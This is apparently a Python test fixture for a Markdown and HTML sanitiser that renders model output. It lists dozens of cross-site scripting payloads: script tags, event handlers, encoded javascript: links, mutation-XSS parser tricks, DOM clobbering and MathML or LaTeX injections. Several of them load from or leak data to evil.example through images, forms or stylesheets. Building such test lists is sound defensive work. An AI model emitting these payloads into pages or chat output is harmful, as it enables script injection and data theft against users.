"""What a model may be made to write so that a page runs, loads or sends something: none of it may."""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    # Elements that run.
    "<script>window.hit = 1</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=window.hit=1>",
    '<img src="https://evil.example/pixel.png?leak=1" width=1>',
    "<svg onload=window.hit=1><script>window.hit=1</script></svg>",
    '<svg><a xlink:href="javascript:window.hit=1"><text y=20>x</text></a></svg>',
    '<iframe src="javascript:parent.hit=1"></iframe><iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    '<object data="data:text/html,<script>window.hit=1</script>"></object><embed src=//evil.example>',
    "<body onload=window.hit=1><input autofocus onfocus=window.hit=1><details open ontoggle=window.hit=1>",
    '<form action="https://evil.example"><button>Send</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css";</style>',
    # Links that run.
    "[click](javascript:window.hit=1)",
    "[click](JaVaScRiPt:window.hit=1) [click](javascript&colon;window.hit=1) [click](java\tscript:window.hit=1)",
    "[click](&#106;avascript:window.hit=1) [click](&#x6A;avascript&#58;window.hit=1)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)",
    "[click](vbscript:window.hit=1) [click](file:///etc/passwd) [click](blob:https://evil.example/1)",
    "<javascript:window.hit=1> <data:text/html,<script>window.hit=1</script>>",
    '[click](https://a.example "x\\" onmouseover=\\"window.hit=1")',
    '[click](<https://a.example/" onclick="window.hit=1>)',
    "[click][1]\n\n[1]: javascript:window.hit=1",
    "[up](//evil.example) [here](/v1/models) [there](#top) [](?x)",
    # Pictures that tell someone.
    "![x](https://evil.example/pixel.png?leak=secret)",
    "![x](javascript:window.hit=1) ![x](data:image/svg+xml,<svg/onload=window.hit=1>)",
    '![x"onerror="window.hit=1](https://evil.example/x.png)',
    "[![x](https://evil.example/a.png)](javascript:window.hit=1)",
    # Formulas.
    r"$\href{javascript:window.hit=1}{x}$ $\url{javascript:window.hit=1}$",
    r"\[ \text{<img src=x onerror=window.hit=1>} \class{a}{b} \]",
    r"$\color{red;background:url(https://evil.example)}{x}$ \( \style{background:url(//evil.example)}{x} \)",
    '<math><maction actiontype="statusline" xlink:href="javascript:window.hit=1">x</maction></math>',
    '<math href="javascript:window.hit=1"><mi xlink:href="javascript:window.hit=1">x</mi></math>',
    r"\[ \text{</mtext></math><script>window.hit=1</script>} \] \boxed{<svg onload=window.hit=1>}",
    # HTML that a second parser reads in another way.
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.hit=1 src>">',
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
    # Names that stand in for the page's own.
    "<a id=app name=fetch href=x>1</a><form id=document><input name=body></form><img name=querySelector id=settings>",
    # Code, entities, characters.
    '```html"><script>window.hit=1</script>\n<script>window.hit=1</script>\n```',
    "```js\n</code></pre><script>window.hit=1</script>\n",
    "&lt;script&gt;window.hit=1&lt;/script&gt; &#60;img src=x onerror=window.hit=1&#62; \x00<script\x00>window.hit=1",
    "| <img src=x onerror=window.hit=1> | `</td><script>window.hit=1</script>` |\n|---|---|\n"
    "| **<b onclick=window.hit=1>** | [x](javascript:0) |",
    "> - 1. **[*<u onmouseover=window.hit=1>*](javascript:window.hit=1)** ~~<s style=position:fixed;inset:0>~~",
    '<div style="position:fixed;inset:0;background:url(https://evil.example)">Your session has ended</div>',
)
"""Markdown that should do nothing. What runs in a browser all the same sets `window.hit`."""
